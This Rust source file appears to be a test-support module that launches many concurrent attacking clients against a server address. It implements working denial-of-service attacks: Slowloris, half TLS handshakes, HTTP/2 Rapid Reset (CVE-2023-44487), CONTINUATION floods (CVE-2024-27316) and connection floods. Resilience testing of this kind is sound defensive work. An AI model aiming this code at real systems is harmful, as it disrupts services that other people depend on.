//! Clients that mean no good, as many as it takes, for as long as this is kept.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::{JoinSet, yield_now};
use tokio::time::{sleep, timeout};

use crate::eventually::eventually;

/// What they do.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// They send the head of a request a byte at a time, and never end it.
    Slowloris,
    /// They begin a TLS handshake, and no more.
    HalfHandshake,
    /// They open streams of HTTP/2 and reset each at once (CVE-2023-44487).
    RapidReset,
    /// They send a head of HTTP/2 that never ends (CVE-2024-27316).
    ContinuationFlood,
    /// They connect, say nothing, and go.
    Connections,
}

/// The attackers at work, until this is dropped.
#[derive(Debug)]
pub struct Attackers {
    written: Arc<AtomicU64>,
    _tasks: JoinSet<()>,
}

/// How long somebody who is slow waits before each byte.
const DRIP: Duration = Duration::from_millis(50);
/// How long somebody listens for being told to go.
const LISTENING: Duration = Duration::from_millis(1);
/// How many frames go in one piece.
const FRAMES: u32 = 64;
/// The beginning of an HTTP/2 connection (RFC 9113, section 3.4), with empty settings.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
/// `GET /v2/` at `x` (RFC 7541: indexed fields, and literals without indexing).
const HEAD: &[u8] = b"\x82\x86\x04\x04/v2/\x01\x01x";
/// A field that nobody knows.
const FIELD: &[u8] = b"\x00\x01a\x01b";
/// What a TLS client says first, cut off behind the length.
const HELLO: &[u8] = b"\x16\x03\x01\x02\x00\x01";

// === impl Attack ===

impl Attack {
    /// All of them.
    pub const ALL: [Self; 5] = [
        Self::Slowloris,
        Self::HalfHandshake,
        Self::RapidReset,
        Self::ContinuationFlood,
        Self::Connections,
    ];

    /// Lets so many loose on an address, each again whenever it is cut off, and after a pause; they do not start together.
    pub fn start(self, address: SocketAddr, attackers: u32, pause: Duration) -> Attackers {
        let written = Arc::new(AtomicU64::new(0));
        let mut tasks = JoinSet::new();
        for attacker in 0..attackers {
            let written = Arc::clone(&written);
            tasks.spawn(async move {
                sleep(pause * attacker / attackers).await;
                loop {
                    // That it fails is what the other side is there for.
                    self.once(address, &written).await.ok();
                    if pause.is_zero() {
                        yield_now().await;
                    } else {
                        sleep(pause).await;
                    }
                }
            });
        }
        Attackers {
            written,
            _tasks: tasks,
        }
    }

    async fn once(self, address: SocketAddr, written: &AtomicU64) -> std::io::Result<()> {
        let mut peer = Peer {
            stream: TcpStream::connect(address).await?,
            written,
        };
        match self {
            Self::Connections => peer.send(b"").await,
            Self::HalfHandshake => {
                peer.send(HELLO).await?;
                peer.stream.read_u8().await.map(drop)
            }
            Self::Slowloris => {
                peer.send(b"GET /v2/ HTTP/1.1\r\nHost: x\r\nX: ").await?;
                loop {
                    peer.send(b"x").await?;
                    sleep(DRIP).await;
                    peer.listen().await?;
                }
            }
            Self::RapidReset => {
                peer.send(PREFACE).await?;
                for first in (1..).step_by(2 * FRAMES as usize) {
                    let streams = (first..).step_by(2).take(FRAMES as usize);
                    let frames: Vec<_> = streams
                        .flat_map(|stream| {
                            [
                                frame(1, 5, stream, HEAD),
                                frame(3, 0, stream, &[0, 0, 0, 8]),
                            ]
                            .concat()
                        })
                        .collect();
                    peer.send(&frames).await?;
                    peer.listen().await?;
                }
                Ok(())
            }
            Self::ContinuationFlood => {
                peer.send(PREFACE).await?;
                peer.send(&frame(1, 1, 1, HEAD)).await?;
                let more = frame(9, 0, 1, &FIELD.repeat(100)).repeat(FRAMES as usize);
                loop {
                    peer.send(&more).await?;
                    peer.listen().await?;
                }
            }
        }
    }
}

// === impl Attackers ===

impl Attackers {
    /// Waits until they have done so much of it: sent as many pieces.
    pub async fn have_sent(&self, pieces: u64) {
        eventually("the attack", async || (self.sent() >= pieces).then_some(())).await;
    }

    /// Returns how many pieces they have sent.
    pub fn sent(&self) -> u64 {
        self.written.load(Ordering::Relaxed)
    }
}

struct Peer<'a> {
    stream: TcpStream,
    written: &'a AtomicU64,
}

impl Peer<'_> {
    async fn send(&mut self, bytes: &[u8]) -> std::io::Result<()> {
        self.stream.write_all(bytes).await?;
        self.written.fetch_add(1, Ordering::Relaxed);
        Ok(())
    }

    /// Takes what is said, and hears when it is time to go.
    async fn listen(&mut self) -> std::io::Result<()> {
        let mut buffer = [0; 4096];
        match timeout(LISTENING, self.stream.read(&mut buffer)).await {
            Ok(Ok(0)) => Err(std::io::ErrorKind::UnexpectedEof.into()),
            Ok(read) => read.map(drop),
            Err(_elapsed) => Ok(()),
        }
    }
}

/// Returns a frame of HTTP/2 (RFC 9113, section 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}
